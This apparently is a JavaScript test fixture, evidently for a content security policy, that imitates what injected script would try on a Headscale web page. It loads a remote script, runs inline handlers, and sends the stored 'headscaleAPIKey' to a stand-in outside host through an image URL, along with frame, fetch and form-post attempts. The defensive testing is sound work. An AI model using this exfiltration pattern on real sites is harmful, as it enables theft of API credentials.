// What a script that got into the page would try next, with a server of its own at `elsewhere`.
(elsewhere) => {
  const add = (name, properties) => document.head.append(Object.assign(document.createElement(name), properties));
  add("script", { textContent: "intruded" });
  add("script", { src: `${elsewhere}/intruder.js` });
  add("img", { src: "/web/no-such-image", onerror: null });
  document.head.lastChild.setAttribute("onerror", "intruded");
  add("img", { src: `${elsewhere}/?key=${localStorage.getItem("headscaleAPIKey")}` });
  add("style", { textContent: "body { background: red; }" });
  add("base", { href: elsewhere });
  add("iframe", { src: elsewhere });
  fetch(elsewhere).catch(() => {});
  const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
  document.head.append(form);
  form.submit();
  // Not at once: what the test itself evaluates is exempt from the policy.
  setTimeout(() => setTimeout("intruded"));
}
